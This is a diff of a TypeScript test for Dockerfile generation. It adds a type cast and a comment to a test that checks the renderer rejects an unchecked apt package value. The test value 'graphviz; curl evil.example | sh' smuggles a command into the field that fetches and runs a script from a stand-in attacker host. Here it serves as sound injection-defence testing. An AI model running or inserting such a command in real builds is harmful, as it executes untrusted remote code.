@@ -171,7 +171,8 @@ describe("generated Dockerfiles", () => {
 
   it("refuses in the renderer what the parser refuses (a hand-made BuildSpec)", () => {
     const app = appOf({ kind: "kaggle-python", build: { aptPackages: ["graphviz"] } });
-    const build = { ...app.build!, aptPackages: ["graphviz; curl evil.example | sh"] };
+    // Only a cast gets an unchecked value into a spec: the renderer refuses it all the same.
+    const build = { ...app.build!, aptPackages: ["graphviz; curl evil.example | sh"] as never };
     expect(() => generatedDockerfile(build, NO_SOURCES)).toThrow(/^build: "graphviz; curl evil.example \| sh" is not a Debian package name/);
   });
 });
